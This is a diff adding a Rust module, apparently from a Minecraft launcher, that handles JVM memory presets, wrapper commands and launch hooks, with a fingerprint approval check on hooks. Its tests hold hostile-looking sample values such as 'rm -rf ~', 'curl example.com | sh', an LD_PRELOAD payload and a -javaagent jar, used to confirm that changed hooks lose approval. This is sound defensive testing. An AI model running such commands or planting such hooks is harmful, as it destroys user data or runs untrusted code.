@@ -0,0 +1,367 @@
+// Per-instance JVM tuning: heap size, extra flags, environment, a wrapper
+// command such as gamemoderun, and hooks run before launch and after exit.
+// Presets fill in memory and flags for common setups
+use std::collections::BTreeMap;
+use std::fs;
+use std::path::{Path, PathBuf};
+use std::process::Command;
+use serde::{Deserialize, Serialize};
+
+use crate::instances::Instance;
+use crate::paths;
+use crate::versions::sha1_hex;
+
+// Smallest heap Minecraft starts with, in MiB
+const MIN_HEAP: u64 = 512;
+
+// Memory left to the OS when checking the heap against system RAM, in MiB
+const SYSTEM_RESERVE: u64 = 1024;
+
+// Launch commands the user confirmed, fingerprints by instance id. Kept next
+// to settings.json rather than in instance.json, so an instance copied or
+// imported from elsewhere can't bring commands that run without asking
+const APPROVED_HOOKS_FILE: &str = "approved_hooks.json";
+
+// Aikar's G1 flags, https://docs.papermc.io/paper/aikars-flags
+const AIKAR_FLAGS: &[&str] = &[
+    "-XX:+UseG1GC",
+    "-XX:+ParallelRefProcEnabled",
+    "-XX:MaxGCPauseMillis=200",
+    "-XX:+UnlockExperimentalVMOptions",
+    "-XX:+DisableExplicitGC",
+    "-XX:+AlwaysPreTouch",
+    "-XX:G1NewSizePercent=30",
+    "-XX:G1MaxNewSizePercent=40",
+    "-XX:G1HeapRegionSize=8M",
+    "-XX:G1ReservePercent=20",
+    "-XX:G1HeapWastePercent=5",
+    "-XX:G1MixedGCCountTarget=4",
+    "-XX:InitiatingHeapOccupancyPercent=15",
+    "-XX:G1MixedGCLiveThresholdPercent=90",
+    "-XX:G1RSetUpdatingPauseTimePercent=5",
+    "-XX:SurvivorRatio=32",
+    "-XX:+PerfDisableSharedMem",
+    "-XX:MaxTenuringThreshold=1",
+];
+
+// Serial GC and a heap that gives memory back, for machines with little RAM
+const LOW_MEMORY_FLAGS: &[&str] = &["-XX:+UseSerialGC", "-XX:MinHeapFreeRatio=10", "-XX:MaxHeapFreeRatio=20"];
+
+#[derive(Debug, Serialize, Deserialize, Clone, Default, PartialEq)]
+pub struct JvmSettings {
+    // Initial heap (-Xms) in MiB
+    #[serde(default)]
+    pub min_memory: Option<u64>,
+    // Maximum heap (-Xmx) in MiB
+    #[serde(default)]
+    pub max_memory: Option<u64>,
+    // Extra JVM flags, placed before the version's own arguments
+    #[serde(default)]
+    pub jvm_args: Vec<String>,
+    #[serde(default)]
+    pub env: BTreeMap<String, String>,
+    // Command Java is started through, e.g. "gamemoderun" or "mangohud --dlsym"
+    #[serde(default)]
+    pub wrapper: Option<String>,
+    // Shell commands run in the game directory
+    #[serde(default)]
+    pub pre_launch: Option<String>,
+    #[serde(default)]
+    pub post_exit: Option<String>,
+}
+
+#[derive(Debug, Serialize, Deserialize, Clone, Copy, PartialEq)]
+#[serde(rename_all = "snake_case")]
+pub enum JvmPreset {
+    Default,
+    Aikar,
+    LowMemory,
+}
+
+// What a preset sets, the rest of the settings are left alone
+#[derive(Debug, Serialize, Clone)]
+pub struct PresetSettings {
+    pub preset: JvmPreset,
+    pub min_memory: Option<u64>,
+    pub max_memory: Option<u64>,
+    pub jvm_args: Vec<String>,
+}
+
+impl JvmPreset {
+    pub const ALL: [JvmPreset; 3] = [JvmPreset::Default, JvmPreset::Aikar, JvmPreset::LowMemory];
+
+    pub fn settings(self) -> PresetSettings {
+        let (min_memory, max_memory, flags): (Option<u64>, u64, &[&str]) = match self {
+            JvmPreset::Default => (None, 2048, &[]),
+            // Aikar recommends equal initial and maximum heap
+            JvmPreset::Aikar => (Some(4096), 4096, AIKAR_FLAGS),
+            JvmPreset::LowMemory => (Some(MIN_HEAP), 1024, LOW_MEMORY_FLAGS),
+        };
+        PresetSettings {
+            preset: self,
+            min_memory,
+            max_memory: Some(max_memory),
+            jvm_args: flags.iter().map(|flag| flag.to_string()).collect(),
+        }
+    }
+}
+
+impl JvmSettings {
+    pub fn apply_preset(&mut self, preset: JvmPreset) {
+        let settings = preset.settings();
+        self.min_memory = settings.min_memory;
+        self.max_memory = settings.max_memory;
+        self.jvm_args = settings.jvm_args;
+    }
+
+    // Heap flags followed by the extra flags
+    pub fn arguments(&self) -> Vec<String> {
+        let mut arguments = Vec::new();
+        if let Some(min) = self.min_memory {
+            arguments.push(format!("-Xms{}M", min));
+        }
+        if let Some(max) = self.max_memory {
+            arguments.push(format!("-Xmx{}M", max));
+        }
+        arguments.extend(self.jvm_args.iter().filter(|arg| !arg.trim().is_empty()).cloned());
+        arguments
+    }
+
+    // Wrapper program and its arguments
+    pub fn wrapper_command(&self) -> Option<Vec<String>> {
+        let words: Vec<String> = self.wrapper.as_deref()?.split_whitespace().map(String::from).collect();
+        (!words.is_empty()).then_some(words)
+    }
+
+    // Fingerprint of everything that can run code on launch: the hooks, the
+    // wrapper, environment variables such as LD_PRELOAD and flags such as
+    // -javaagent. Preset flags are known to be safe and left out, None when
+    // nothing else is set
+    pub fn commands_fingerprint(&self) -> Option<String> {
+        let text = |value: &Option<String>| value.as_deref().map(str::trim).unwrap_or_default().to_string();
+        let jvm_args: Vec<&str> = self
+            .jvm_args
+            .iter()
+            .map(|arg| arg.trim())
+            .filter(|arg| !arg.is_empty() && !AIKAR_FLAGS.contains(arg) && !LOW_MEMORY_FLAGS.contains(arg))
+            .collect();
+        let (pre_launch, post_exit, wrapper) = (text(&self.pre_launch), text(&self.post_exit), text(&self.wrapper));
+        if pre_launch.is_empty() && post_exit.is_empty() && wrapper.is_empty() && jvm_args.is_empty() && self.env.is_empty() {
+            return None;
+        }
+        let commands = serde_json::json!([pre_launch, post_exit, wrapper, jvm_args, self.env]);
+        Some(sha1_hex(commands.to_string().as_bytes()))
+    }
+
+    // Check the settings, `total_memory` is the system RAM in MiB or 0 when unknown
+    pub fn validate(&self, total_memory: u64) -> Result<(), String> {
+        if total_memory == 0 && (self.min_memory.is_some() || self.max_memory.is_some()) {
+            eprintln!("System memory is unknown, the heap size is not checked against it");
+        }
+        let check_heap = |label: &str, size: u64| {
+            if size < MIN_HEAP {
+                return Err(format!("{} memory must be at least {} MB", label, MIN_HEAP));
+            }
+            if total_memory > 0 && size + SYSTEM_RESERVE.min(total_memory / 4) > total_memory {
+                return Err(format!(
+                    "{} memory of {} MB leaves too little for the system ({} MB installed)",
+                    label, size, total_memory
+                ));
+            }
+            Ok(())
+        };
+        if let Some(max) = self.max_memory {
+            check_heap("Maximum", max)?;
+        }
+        if let Some(min) = self.min_memory {
+            check_heap("Initial", min)?;
+        }
+        if let (Some(min), Some(max)) = (self.min_memory, self.max_memory) {
+            if min > max {
+                return Err(format!("Initial memory ({} MB) is larger than maximum memory ({} MB)", min, max));
+            }
+        }
+
+        // Heap size has its own fields, a stray -Xmx would silently override them
+        if let Some(arg) = self.jvm_args.iter().find(|arg| arg.starts_with("-Xmx") || arg.starts_with("-Xms")) {
+            return Err(format!("Set memory with the memory fields instead of {}", arg));
+        }
+        if let Some(name) = self.env.keys().find(|name| name.is_empty() || name.contains('=') || name.contains('\0')) {
+            return Err(format!("Invalid environment variable name: {:?}", name));
+        }
+        Ok(())
+    }
+}
+
+// Shell command for a hook, with the instance described in INST_* variables
+pub fn hook_command(script: &str, data_path: &Path, instance: &Instance) -> Command {
+    #[cfg(windows)]
+    let mut command = {
+        let mut command = Command::new("cmd");
+        command.args(["/C", script]);
+        command
+    };
+    #[cfg(not(windows))]
+    let mut command = {
+        let mut command = Command::new("sh");
+        command.args(["-c", script]);
+        command
+    };
+
+    let game_dir = instance.game_dir(data_path);
+    command
+        .current_dir(&game_dir)
+        .envs(&instance.jvm.env)
+        .env("INST_ID", &instance.id)
+        .env("INST_NAME", &instance.name)
+        .env("INST_DIR", instance.path(data_path))
+        .env("INST_MC_DIR", &game_dir)
+        .env("INST_VERSION", &instance.game_version);
+    command
+}
+
+fn approved_hooks_path() -> Result<PathBuf, String> {
+    Ok(paths::resolve().map_err(|e| e.to_string())?.config.join(APPROVED_HOOKS_FILE))
+}
+
+fn read_approved_hooks(path: &Path) -> BTreeMap<String, String> {
+    fs::read_to_string(path)
+        .ok()
+        .and_then(|contents| serde_json::from_str(&contents).ok())
+        .unwrap_or_default()
+}
+
+// Whether the launch commands in `jvm` are the ones the user confirmed for an
+// instance, see commands_fingerprint. Settings without any need no confirmation
+pub fn commands_approved(instance_id: &str, jvm: &JvmSettings) -> bool {
+    approved_hooks_path().is_ok_and(|path| approved_in(&path, instance_id, jvm))
+}
+
+// Record that the user confirmed the launch commands in `jvm` for an instance
+pub fn approve_commands(instance_id: &str, jvm: &JvmSettings) -> Result<(), String> {
+    approve_in(&approved_hooks_path()?, instance_id, jvm)
+}
+
+fn approved_in(path: &Path, instance_id: &str, jvm: &JvmSettings) -> bool {
+    let Some(fingerprint) = jvm.commands_fingerprint() else { return true };
+    read_approved_hooks(path).get(instance_id) == Some(&fingerprint)
+}
+
+fn approve_in(path: &Path, instance_id: &str, jvm: &JvmSettings) -> Result<(), String> {
+    let mut approved = read_approved_hooks(path);
+    match jvm.commands_fingerprint() {
+        Some(fingerprint) => approved.insert(instance_id.to_string(), fingerprint),
+        None => approved.remove(instance_id),
+    };
+
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent).map_err(|e| e.to_string())?;
+    }
+    let contents = serde_json::to_string_pretty(&approved).map_err(|e| e.to_string())?;
+    fs::write(path, contents).map_err(|e| format!("Failed to save approved hooks: {}", e))
+}
+
+// Run the post-exit hook of an instance, if it has one the user confirmed
+pub fn run_post_exit_hook(data_path: &Path, instance: &Instance) {
+    let Some(script) = instance.jvm.post_exit.as_deref().filter(|script| !script.trim().is_empty()) else {
+        return;
+    };
+    if !commands_approved(&instance.id, &instance.jvm) {
+        eprintln!("Not running the post-exit hook of {}, it was changed outside the launcher", instance.id);
+        return;
+    }
+    match hook_command(script, data_path, instance).status() {
+        Ok(status) if !status.success() => eprintln!("Post-exit hook of {} failed with {}", instance.id, status),
+        Ok(_) => {},
+        Err(e) => eprintln!("Failed to run post-exit hook of {}: {}", instance.id, e),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn memory(min_memory: Option<u64>, max_memory: Option<u64>) -> JvmSettings {
+        JvmSettings { min_memory, max_memory, ..Default::default() }
+    }
+
+    #[test]
+    fn heap_sizes_are_checked_on_their_own() {
+        assert!(memory(None, Some(4096)).validate(16384).is_ok());
+        assert!(memory(Some(1024), Some(4096)).validate(16384).is_ok());
+
+        assert!(memory(None, Some(256)).validate(16384).unwrap_err().starts_with("Maximum"));
+        assert!(memory(None, Some(16000)).validate(16384).unwrap_err().starts_with("Maximum"));
+        assert!(memory(Some(256), None).validate(16384).unwrap_err().starts_with("Initial"));
+        assert!(memory(Some(16000), None).validate(16384).unwrap_err().starts_with("Initial"));
+        assert!(memory(Some(4096), Some(2048)).validate(16384).is_err());
+
+        // Unknown RAM still checks the lower bound
+        assert!(memory(Some(16000), None).validate(0).is_ok());
+        assert!(memory(Some(256), None).validate(0).is_err());
+    }
+
+    #[test]
+    fn commands_fingerprint() {
+        let hooks = |pre_launch: Option<&str>, post_exit: Option<&str>| JvmSettings {
+            pre_launch: pre_launch.map(String::from),
+            post_exit: post_exit.map(String::from),
+            ..Default::default()
+        };
+
+        assert_eq!(hooks(None, None).commands_fingerprint(), None);
+        assert_eq!(hooks(Some("  "), Some("")).commands_fingerprint(), None);
+        assert_eq!(hooks(Some("echo hi"), None).commands_fingerprint(), hooks(Some(" echo hi "), Some("")).commands_fingerprint());
+        assert_ne!(hooks(Some("echo hi"), None).commands_fingerprint(), hooks(None, Some("echo hi")).commands_fingerprint());
+        assert_ne!(hooks(Some("echo hi"), None).commands_fingerprint(), hooks(Some("rm -rf ~"), None).commands_fingerprint());
+
+        // Preset flags and heap sizes run no code
+        let mut preset = memory(Some(4096), Some(4096));
+        preset.apply_preset(JvmPreset::Aikar);
+        assert_eq!(preset.commands_fingerprint(), None);
+    }
+
+    #[test]
+    fn changed_commands_revoke_approval() {
+        let path = std::env::temp_dir().join(format!("intelligence-approved-hooks-{}.json", std::process::id()));
+        let _ = fs::remove_file(&path);
+
+        let approved = JvmSettings {
+            jvm_args: vec!["-XX:+UseG1GC".to_string()],
+            env: BTreeMap::from([("MESA_GL_VERSION_OVERRIDE".to_string(), "4.5".to_string())]),
+            wrapper: Some("gamemoderun".to_string()),
+            post_exit: Some("echo done".to_string()),
+            ..Default::default()
+        };
+        assert!(!approved_in(&path, "a", &approved));
+        approve_in(&path, "a", &approved).unwrap();
+        assert!(approved_in(&path, "a", &approved));
+        assert!(!approved_in(&path, "b", &approved));
+
+        let changes: [fn(&mut JvmSettings); 5] = [
+            |jvm| jvm.wrapper = Some("/tmp/payload".to_string()),
+            |jvm| {
+                jvm.env.insert("LD_PRELOAD".to_string(), "/tmp/payload.so".to_string());
+            },
+            |jvm| jvm.jvm_args.push("-javaagent:/tmp/agent.jar".to_string()),
+            |jvm| jvm.pre_launch = Some("curl example.com | sh".to_string()),
+            |jvm| jvm.post_exit = None,
+        ];
+        for change in changes {
+            let mut changed = approved.clone();
+            change(&mut changed);
+            assert!(!approved_in(&path, "a", &changed), "{:?} is still approved", changed);
+        }
+
+        // Heap sizes can change without asking again
+        let mut resized = approved.clone();
+        resized.max_memory = Some(8192);
+        assert!(approved_in(&path, "a", &resized));
+
+        // Nothing to run needs no approval and clears the old one
+        approve_in(&path, "a", &JvmSettings::default()).unwrap();
+        assert!(approved_in(&path, "a", &JvmSettings::default()));
+        assert!(!approved_in(&path, "a", &approved));
+        fs::remove_file(path).unwrap();
+    }
+}